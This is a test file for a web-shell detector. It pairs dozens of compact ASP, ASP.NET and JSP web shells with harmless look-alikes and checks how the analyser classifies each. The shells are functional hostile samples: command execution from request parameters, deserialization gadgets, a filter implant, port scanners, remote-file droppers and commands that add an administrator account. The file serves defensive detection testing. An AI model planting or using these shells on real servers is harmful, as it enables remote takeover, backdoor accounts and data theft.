import { beforeAll, expect, test } from 'vitest'
import { testGrammars } from '../../../../../test/grammars.ts'
import { analyse } from '../analyse.ts'
import type { Grammars } from '../syntax.ts'

let grammars: Grammars
beforeAll(async () => {
  grammars = await testGrammars()
})

const judged = (path: string, text: string, bytes: Uint8Array = Uint8Array.from(text, letter => letter.charCodeAt(0) & 255)) =>
  analyse({ path, text, bytes }, grammars).verdict

const ASPX = '<%@ Page Language="C#"%>'
/** Kinds of shells and helpers by what they are there for, each with what looks alike. Nothing here reaches anything. */
const CELLS: readonly (readonly [kind: string, path: string, shell: string, twin: string])[] = [
  // Classic ASP: evaluators.
  [
    'ASP: a value by a second name',
    'a.asp',
    '<%dim a,b:a=request("c"):b=a:eval b%>',
    '<%dim a,b:a=request("c"):b=a:Response.Write Server.HTMLEncode(b)%>',
  ],
  [
    'ASP: ExecuteGlobal, turned round',
    'a.asp',
    '<%ExecuteGlobal StrReverse(request("c"))%>',
    '<%ExecuteGlobal "x = 1"%><%=StrReverse(request("c"))%>',
  ],
  [
    'ASP: through the session',
    'a.asp',
    '<%Session("k")=request("c"):If Session("k")<>"" Then Execute Session("k")%>',
    '<%Session("k")=request("c"):If Session("k")<>"" Then Response.Write Len(Session("k"))%>',
  ],
  [
    'ASP: when an object is made',
    'a.asp',
    '<%Class T\nPrivate Sub Class_Initialize\nexecute request("c")\nEnd Sub\nEnd Class\nSet x=New T%>',
    '<%Class T\nPrivate Sub Class_Initialize\nResponse.Write Len(request("c"))\nEnd Sub\nEnd Class\nSet x=New T%>',
  ],
  [
    'ASP: script element',
    'a.asp',
    '<script language=vbs runat=server>eval(request("c"))</script>',
    '<script language=vbs runat=server>Response.Write(Len(request("c")))</script>',
  ],
  [
    'ASP: words of hexadecimal pairs',
    'a.asp',
    '<%Function d(s)\nFor i=1 To Len(s) Step 2\nd=d&Chr("&H"&Mid(s,i,2))\nNext\nEnd Function\nExecute d("65786563757465287265717565737428226322292920")%>',
    '<%Function d(s)\nFor i=1 To Len(s) Step 2\nd=d&Chr("&H"&Mid(s,i,2))\nNext\nEnd Function\nResponse.Write d("65786563757465287265717565737428226322292920")%>',
  ],
  [
    'JScript: Function',
    'a.asp',
    '<%@Language=JScript%><%new Function(""+Request.Form("c"))()%>',
    '<%@Language=JScript%><%new Function("return 1")();Response.Write((""+Request.Form("c")).length)%>',
  ],
  [
    'JScript: eval of an item',
    'a.asp',
    '<%@Language=JScript%><%eval(Request.Item("c")+"")%>',
    '<%@Language=JScript%><%Response.Write((Request.Item("c")+"").length)%>',
  ],
  // Classic ASP: commands.
  [
    'ASP: Shell.Application',
    'a.asp',
    '<%Set s=Server.CreateObject("Shell.Application"):s.ShellExecute "cmd.exe","/c "&Request("c"),"","open",0%>',
    '<%Set s=Server.CreateObject("Shell.Application"):Response.Write s.NameSpace(5).Title & Request("c")%>',
  ],
  [
    'ASP: a class by its number',
    'a.asp',
    '<%Set s=GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8"):Response.Write s.Exec("cmd /c "&Request("c")).StdOut.ReadAll%>',
    '<%Set s=GetObject("new:0D43FE01-F093-11CF-8940-00A0C9054228"):Response.Write s.FileExists("c:\\x.txt")&Len(Request("c"))%>',
  ],
  [
    'ASP: output by a file',
    'a.asp',
    '<%Set w=CreateObject("WScript.Shell"):w.Run "cmd.exe /c " & Request.Form("c") & " > c:\\x.txt",0,True%>',
    '<%Set w=CreateObject("WScript.Shell"):w.Run "backup.cmd",0,True:Response.Write Len(Request.Form("c"))%>',
  ],
  [
    'JScript: ActiveXObject',
    'a.asp',
    '<%@Language=JScript%><%Response.Write(new ActiveXObject("WScript.Shell").Exec("cmd /c "+Request("c")).StdOut.ReadAll())%>',
    '<%@Language=JScript%><%Response.Write(new ActiveXObject("Scripting.FileSystemObject").FileExists("c:\\\\x")+Request("c"))%>',
  ],
  [
    'ASP: a command of the database',
    'a.asp',
    '<%Set c=CreateObject("ADODB.Connection"):c.Open "dsn=x":Set r=c.Execute("exec master..xp_cmdshell \'" & Request("c") & "\'"):Response.Write r(0)%>',
    '<%Set c=CreateObject("ADODB.Connection"):c.Open "dsn=x":Set r=c.Execute("exec GetName " & CLng(Request("c"))):Response.Write r(0)%>',
  ],
  // Classic ASP: helpers.
  [
    'ASP: a file of another server',
    'a.asp',
    '<%Set x=CreateObject("MSXML2.ServerXMLHTTP"):x.Open "GET",Request("u"),False:x.Send:Set s=CreateObject("ADODB.Stream"):s.Type=1:s.Open:s.Write x.responseBody:s.SaveToFile Server.MapPath(Request("f")),2%>',
    '<%Set x=CreateObject("MSXML2.ServerXMLHTTP"):x.Open "GET","https://rates.example/today.xml",False:x.Send:Set s=CreateObject("ADODB.Stream"):s.Type=1:s.Open:s.Write x.responseBody:s.SaveToFile Server.MapPath("rates.xml"),2%>',
  ],
  [
    'ASP: any file is shown',
    'a.asp',
    '<%Set f=CreateObject("Scripting.FileSystemObject")\nFor Each i In f.GetFolder(Request("d")).Files\nResponse.Write i.Name\nNext\nResponse.Write f.OpenTextFile(Request("f")).ReadAll\nf.DeleteFile Request("x")%>',
    '<%Set f=CreateObject("Scripting.FileSystemObject")\nFor Each i In f.GetFolder(Server.MapPath("albums")).Files\nResponse.Write i.Name\nNext\nResponse.Write f.OpenTextFile(Server.MapPath("intro.txt")).ReadAll%>',
  ],
  [
    'ASP: ports of a machine',
    'a.asp',
    '<%For Each p In Split(Request("ports"),",")\nSet c=CreateObject("ADODB.Connection")\nc.ConnectionTimeout=1\nOn Error Resume Next\nc.Open "Provider=SQLOLEDB.1;Data Source=" & Request("ip") & "," & p & ";User ID=a;Password=b"\nResponse.Write p & Err.Description\nNext%>',
    '<%Set c=CreateObject("ADODB.Connection")\nc.ConnectionTimeout=5\nc.Open Application("dsn")\nResponse.Write Err.Description & Request("ip")%>',
  ],
  [
    'ASP: an account made by commands',
    'a.asp',
    '<%Set w=CreateObject("WScript.Shell"):w.Run "net user helper Passw0rd /add",0,True:w.Run "net localgroup administrators helper /add",0,True%>',
    '<%Set w=CreateObject("WScript.Shell"):w.Run "net start spooler",0,True%>',
  ],
  [
    'a command by a server-side include',
    'a.shtml',
    '<html><!--#exec cmd="$QUERY_STRING_UNESCAPED" --></html>',
    '<html><!--#exec cgi="/cgi-bin/counter.pl" --><!--#echo var="DATE_LOCAL" --></html>',
  ],
  // ASP.NET.
  [
    'PowerShell',
    'a.aspx',
    `${ASPX}<%foreach(var o in System.Management.Automation.PowerShell.Create().AddScript(Request["c"]).Invoke())Response.Write(o);%>`,
    `${ASPX}<%foreach(var o in System.Management.Automation.PowerShell.Create().AddScript("Get-Date").Invoke())Response.Write(o+Request["c"]);%>`,
  ],
  [
    'a compiler',
    'a.aspx',
    `${ASPX}<%var r=new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(),Request["s"]);r.CompiledAssembly.CreateInstance("A");%>`,
    `${ASPX}<%var r=new Microsoft.CSharp.CSharpCodeProvider();Response.Write(r.FileExtension+Request["s"]);%>`,
  ],
  [
    'the scripting of the framework',
    'a.aspx',
    `${ASPX}<%Microsoft.JScript.Eval.JScriptEvaluate(Request["c"],Microsoft.JScript.Vsa.VsaEngine.CreateEngine());%>`,
    `${ASPX}<%Response.Write(System.Web.UI.DataBinder.Eval(Container.DataItem,"Name")+Request["c"]);%>`,
  ],
  [
    'a method by names of the request',
    'a.aspx',
    `${ASPX}<%Type.GetType(Request["t"]).GetMethod(Request["m"]).Invoke(null,new object[]{Request["a"]});%>`,
    `${ASPX}<%typeof(String).GetMethod("IsNullOrEmpty").Invoke(null,new object[]{Request["a"]});%>`,
  ],
  [
    'Windows Management',
    'a.aspx',
    `${ASPX}<%new System.Management.ManagementClass("Win32_Process").InvokeMethod("Create",new object[]{Request["c"],null,null,0});%>`,
    `${ASPX}<%foreach(var m in new System.Management.ManagementClass("Win32_OperatingSystem").GetInstances())Response.Write(m["Caption"]+Request["c"]);%>`,
  ],
  [
    'objects of a text',
    'a.aspx',
    `${ASPX}<%new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize(new System.IO.MemoryStream(Convert.FromBase64String(Request["o"])));%>`,
    `${ASPX}<%new System.Web.Script.Serialization.JavaScriptSerializer().Deserialize<Order>(Request["o"]);%>`,
  ],
  [
    'markup that makes objects',
    'a.aspx',
    `${ASPX}<%System.Windows.Markup.XamlReader.Parse(Request["x"]);%>`,
    `${ASPX}<%System.Xml.Linq.XDocument.Parse(Request["x"]);%>`,
  ],
  [
    'a file of another server',
    'a.aspx',
    `${ASPX}<%new System.Net.WebClient().DownloadFile(Request["u"],Request["p"]);%>`,
    `${ASPX}<%new System.Net.WebClient().DownloadFile("https://rates.example/today.xml",Server.MapPath("rates.xml"));Response.Write(Request["p"]);%>`,
  ],
  [
    'a tunnel kept in the session',
    'a.aspx',
    `${ASPX}<%var k=Request.Headers["X-CMD"];if(k=="CONNECT"){var s=new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork,System.Net.Sockets.SocketType.Stream,System.Net.Sockets.ProtocolType.Tcp);s.Connect(Request.Headers["X-TARGET"],int.Parse(Request.Headers["X-PORT"]));Session["s"]=s;}%>`,
    `${ASPX}<%var k=Request.Headers["X-CMD"];if(k=="CONNECT"){var s=new System.Net.Sockets.TcpClient("mail.example",25);Session["s"]=k;}%>`,
  ],
  [
    'Visual Basic: Interaction',
    'a.aspx',
    `${ASPX}<%Microsoft.VisualBasic.Interaction.Shell("cmd /c "+Request["c"],0,true,-1);%>`,
    `${ASPX}<%Response.Write(Microsoft.VisualBasic.Interaction.IIf(true,"a","b")+Request["c"]);%>`,
  ],
  [
    'an account of the machine',
    'a.aspx',
    `${ASPX}<%var m=new System.DirectoryServices.DirectoryEntry("WinNT://.,computer");var u=m.Children.Add(Request["u"],"user");u.Invoke("SetPassword",new object[]{Request["p"]});u.CommitChanges();%>`,
    `${ASPX}<%var m=new System.DirectoryServices.DirectoryEntry("LDAP://dc.example");Response.Write(m.Name+Request["u"]);%>`,
  ],
  [
    'a listener inside of the server',
    'a.aspx',
    `${ASPX}<script runat="server">void Page_Load(object s,EventArgs e){var l=new System.Net.HttpListener();l.Prefixes.Add("http://*:80/x/");l.Start();var c=l.GetContext();System.Diagnostics.Process.Start("cmd.exe","/c "+c.Request.QueryString["c"]);}</script>`,
    `${ASPX}<script runat="server">void Page_Load(object s,EventArgs e){var l=new System.Net.HttpListener();Response.Write(System.Net.HttpListener.IsSupported);}</script>`,
  ],
  [
    'JScript.NET, packed',
    'a.aspx',
    '<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item["z"])),"unsafe");%>',
    '<%@ Page Language="Jscript"%><%Response.Write(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item["z"])).length);%>',
  ],
  // JSP.
  [
    'an evaluator of expressions',
    'a.jsp',
    '<%new javax.el.ELProcessor().eval(request.getParameter("c"));%>',
    '<%new javax.el.ELProcessor().eval("1+1");out.print(request.getParameter("c").length());%>',
  ],
  [
    'Groovy',
    'a.jsp',
    '<%new groovy.lang.GroovyShell().evaluate(request.getParameter("c"));%>',
    '<%new groovy.lang.GroovyShell().evaluate("1+1");out.print(request.getParameter("c").length());%>',
  ],
  [
    'objects of the body',
    'a.jsp',
    '<%new java.io.ObjectInputStream(request.getInputStream()).readObject();%>',
    '<%new java.io.ObjectInputStream(application.getResourceAsStream("/WEB-INF/t.ser")).readObject();%>',
  ],
  [
    'objects of XML',
    'a.jsp',
    '<%new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(request.getParameter("x").getBytes())).readObject();%>',
    '<%new java.beans.XMLDecoder(application.getResourceAsStream("/WEB-INF/a.xml")).readObject();out.print(request.getParameter("x").length());%>',
  ],
  [
    'a class in its own spelling',
    'a.jsp',
    '<%new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(request.getParameter("k")).newInstance();%>',
    '<%out.print(com.sun.org.apache.bcel.internal.classfile.Utility.accessToString(1)+request.getParameter("k").length());%>',
  ],
  [
    'a class without a loader',
    'a.jsp',
    '<%java.lang.reflect.Field f=sun.misc.Unsafe.class.getDeclaredField("theUnsafe");f.setAccessible(true);byte[] b=java.util.Base64.getDecoder().decode(request.getParameter("k"));((sun.misc.Unsafe)f.get(null)).defineAnonymousClass(Class.class,b,null).newInstance();%>',
    '<%java.lang.reflect.Field f=String.class.getDeclaredField("hash");byte[] b=java.util.Base64.getDecoder().decode(request.getParameter("k"));out.print(b.length);%>',
  ],
  [
    'the start of a process below',
    'a.jsp',
    '<%Class k=Class.forName("java.lang.ProcessImpl");java.lang.reflect.Method m=k.getDeclaredMethod("start",String[].class,java.util.Map.class,String.class,ProcessBuilder.Redirect[].class,boolean.class);m.setAccessible(true);m.invoke(null,new String[]{"/bin/sh","-c",request.getParameter("c")},null,null,null,false);%>',
    '<%Class k=Class.forName("java.lang.Math");java.lang.reflect.Method m=k.getDeclaredMethod("abs",int.class);m.invoke(null,Integer.parseInt(request.getParameter("c")));%>',
  ],
  [
    'a source named by the request',
    'a.jsp',
    '<%com.sun.rowset.JdbcRowSetImpl r=new com.sun.rowset.JdbcRowSetImpl();r.setDataSourceName(request.getParameter("u"));r.setAutoCommit(true);%>',
    '<%com.sun.rowset.JdbcRowSetImpl r=new com.sun.rowset.JdbcRowSetImpl();r.setDataSourceName("java:comp/env/jdbc/shop");r.setAutoCommit(true);%>',
  ],
  [
    'the body into any file',
    'a.jsp',
    '<%java.nio.file.Files.copy(request.getInputStream(),java.nio.file.Paths.get(request.getParameter("p")));%>',
    '<%java.nio.file.Files.copy(request.getInputStream(),java.nio.file.Files.createTempFile("in",".dat"));%>',
  ],
  [
    'a part under its own name',
    'a.jsp',
    '<%for(Part p:request.getParts())p.write(application.getRealPath("/")+p.getSubmittedFileName());%>',
    '<%for(Part p:request.getParts())p.write("/var/spool/in/"+java.util.UUID.randomUUID());%>',
  ],
  [
    'a filter put into the server',
    'a.jsp',
    '<%@page import="javax.servlet.*"%><%class F implements Filter{public void init(FilterConfig c){}public void destroy(){}public void doFilter(ServletRequest q,ServletResponse p,FilterChain n)throws java.io.IOException,ServletException{Runtime.getRuntime().exec(q.getParameter("c"));n.doFilter(q,p);}} application.addFilter("f",new F()).addMappingForUrlPatterns(null,false,"/*");%>',
    '<%@page import="javax.servlet.*"%><%class F implements Filter{public void init(FilterConfig c){}public void destroy(){}public void doFilter(ServletRequest q,ServletResponse p,FilterChain n)throws java.io.IOException,ServletException{q.setCharacterEncoding("UTF-8");n.doFilter(q,p);}}%>',
  ],
  [
    'any database and any query',
    'a.jsp',
    '<%java.sql.Connection c=java.sql.DriverManager.getConnection(request.getParameter("u"),request.getParameter("n"),request.getParameter("p"));java.sql.ResultSet r=c.createStatement().executeQuery(request.getParameter("q"));while(r.next())out.print(r.getString(1));%>',
    '<%java.sql.Connection c=java.sql.DriverManager.getConnection("jdbc:h2:mem:a");java.sql.PreparedStatement s=c.prepareStatement("select a from b where c=?");s.setString(1,request.getParameter("q"));%>',
  ],
  [
    'ports of a machine',
    'a.jsp',
    '<%for(String p:request.getParameter("ports").split(",")){try{new java.net.Socket(request.getParameter("h"),Integer.parseInt(p)).close();out.print(p);}catch(Exception e){}}%>',
    '<%try{new java.net.Socket("mail.example",25).close();out.print("mail is up");}catch(Exception e){}out.print(request.getParameter("h").length());%>',
  ],
  [
    'a folder as an archive',
    'a.jsp',
    '<%java.util.zip.ZipOutputStream z=new java.util.zip.ZipOutputStream(response.getOutputStream());for(java.io.File f:new java.io.File(request.getParameter("d")).listFiles()){z.putNextEntry(new java.util.zip.ZipEntry(f.getName()));z.write(java.nio.file.Files.readAllBytes(f.toPath()));}%>',
    '<%java.util.zip.ZipOutputStream z=new java.util.zip.ZipOutputStream(response.getOutputStream());for(java.io.File f:new java.io.File(application.getRealPath("/pictures")).listFiles()){z.putNextEntry(new java.util.zip.ZipEntry(f.getName()));z.write(java.nio.file.Files.readAllBytes(f.toPath()));}%>',
  ],
]

test.each(CELLS)('%s', (_kind, path, shell, twin) => {
  expect(judged(path, shell)).toMatch(/^(?:web-shell|uploader|dropper)$/)
  expect(judged(path, twin)).toMatch(/^(?:clean|suspicious)$/)
})

const utf16 = (text: string, big: boolean) => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le')
  return big ? bytes.swap16() : bytes
}

test.each([
  ['two bytes a letter, small end first', 'a.asp', '<%eval request("c")%>', '<%=Len(request("c"))%>', false],
  [
    'two bytes a letter, big end first',
    'a.aspx',
    `${ASPX}<%System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]);%>`,
    `${ASPX}<%=Request["c"].Length%>`,
    true,
  ],
  [
    'two bytes a letter, JSP',
    'a.jsp',
    '<%@page import="java.io.*"%><%Runtime.getRuntime().exec(request.getParameter("c"));%>',
    '<%@page import="java.io.*"%><%=request.getParameter("c").length()%>',
    true,
  ],
])('%s', (_kind, path, shell, twin, big) => {
  expect(judged(path, shell, utf16(shell, big))).toBe('web-shell')
  expect(judged(path, twin, utf16(twin, big))).toBe('clean')
})
